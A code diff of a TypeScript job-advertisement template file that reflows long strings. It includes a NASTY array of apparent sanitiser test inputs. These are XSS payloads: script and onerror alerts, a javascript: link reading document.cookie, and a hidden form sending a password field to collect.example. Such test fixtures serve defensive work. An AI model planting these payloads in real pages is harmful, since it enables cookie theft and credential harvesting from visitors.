@@ -12,7 +12,8 @@ interface Language {
 
 const ENGLISH: Language = {
   intro: (position, employer) =>
-    `For ${employer} we look for a <strong>${position}</strong> (m/f/d) who likes <em>calm</em> teams and finishes things.`,
+    `For ${employer} we look for a <strong>${position}</strong> (m/f/d) who likes ` +
+    "<em>calm</em> teams and finishes things.",
   tasks: "What you will do",
   bring: "What you bring",
   offer: "What we offer",
@@ -33,7 +34,8 @@ const ENGLISH: Language = {
 };
 const GERMAN: Language = {
   intro: (position, employer) =>
-    `Für ${employer} suchen wir eine*n <strong>${position}</strong> (m/w/d) zum nächstmöglichen Zeitpunkt &ndash; unbefristet.`,
+    `Für ${employer} suchen wir eine*n <strong>${position}</strong> (m/w/d) zum ` +
+    "nächstmöglichen Zeitpunkt &ndash; unbefristet.",
   tasks: "Ihre Aufgaben",
   bring: "Ihr Profil",
   offer: "Wir bieten",
@@ -62,11 +64,14 @@ const POLISH: Language = {
 const NASTY: readonly ((position: string) => string)[] = [
   (position) => `<img src="x" onerror="alert(1)"><script>alert("${position}")</script>`,
   () =>
-    `<a href="javascript:alert(document.cookie)">Apply now</a><iframe src="https://ads.example/frame"></iframe>`,
+    `<a href="javascript:alert(document.cookie)">Apply now</a><iframe ` +
+    `src="https://ads.example/frame"></iframe>`,
   () =>
-    `<style>body{display:none}</style><form action="https://collect.example"><input name="password"></form>`,
+    `<style>body{display:none}</style><form action="https://collect.example"><input ` +
+    `name="password"></form>`,
   () =>
-    `<p onclick="alert(1)" style="position:fixed;inset:0">Best job ever</p><svg onload="alert(1)"></svg>`,
+    `<p onclick="alert(1)" style="position:fixed;inset:0">Best job ever</p><svg ` +
+    `onload="alert(1)"></svg>`,
 ];
 
 /** HTML as it is pasted into job descriptions from word processors and job boards. */
